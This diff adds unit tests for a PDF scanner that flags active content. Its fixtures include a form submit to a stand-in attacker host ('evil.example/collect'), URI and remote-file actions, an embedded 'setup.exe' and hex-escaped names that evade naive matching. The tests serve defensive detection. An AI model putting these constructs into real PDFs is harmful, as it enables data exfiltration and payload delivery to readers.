@@ -26,6 +26,32 @@ describe('scanPdf', () => {
     }
   })
 
+  it('finds actions that open an address or another file, and files carried inside', () => {
+    for (const body of [
+      '<< /Type /Catalog /OpenAction << /S /URI /URI (https://evil.example/) >> >>',
+      '<< /Type /Annot /Subtype /Link /A << /S /U#52I /URI (https://campus.example) >> >>',
+      '<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>',
+      '<< /S /GoToE /T << /R /C /N (x) >> >>',
+      '<< /S /SubmitForm /F (https://evil.example/collect) >>',
+      '<< /S /ImportData /F (data.fdf) >>',
+      '<< /Type /Catalog /Names << /EmbeddedFiles 9 0 R >> >>',
+      '<< /Type /EmbeddedFile /Length 3 >>',
+      '<< /Type /Annot /Subtype /FileAttachment /FS 8 0 R >>',
+      '<< /Type /Annot /Subtype /RichMedia >>',
+    ]) {
+      expect(scanPdf(pdf(`1 0 obj ${body} endobj`)), body).toEqual({ ok: false, reason: 'active' })
+    }
+  })
+
+  it('finds them inside compressed object streams too', () => {
+    const objects = zlib.deflateSync(Buffer.from('7 0 << /Names << /Embedd#65dFiles << /Names [(setup.exe) 8 0 R] >> >> >>'))
+    expect(scanPdf(pdf('6 0 obj ', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objects), 'endobj'))).toEqual({ ok: false, reason: 'active' })
+  })
+
+  it('leaves an opening view alone: /OpenAction by itself is where the viewer starts', () => {
+    expect(scanPdf(pdf('1 0 obj << /Type /Catalog /OpenAction [3 0 R /FitH 842] /URIBase (x) >> endobj'))).toEqual({ ok: true })
+  })
+
   it('leaves alone the names in strings, comments and longer names', () => {
     const harmless = pdf('% /JavaScript in a comment\n', '1 0 obj << /Title (see /JS \\) /Launch) /Subject <2F4A53> /JSON 1 /Launcher 2 >> endobj')
     expect(scanPdf(harmless)).toEqual({ ok: true })
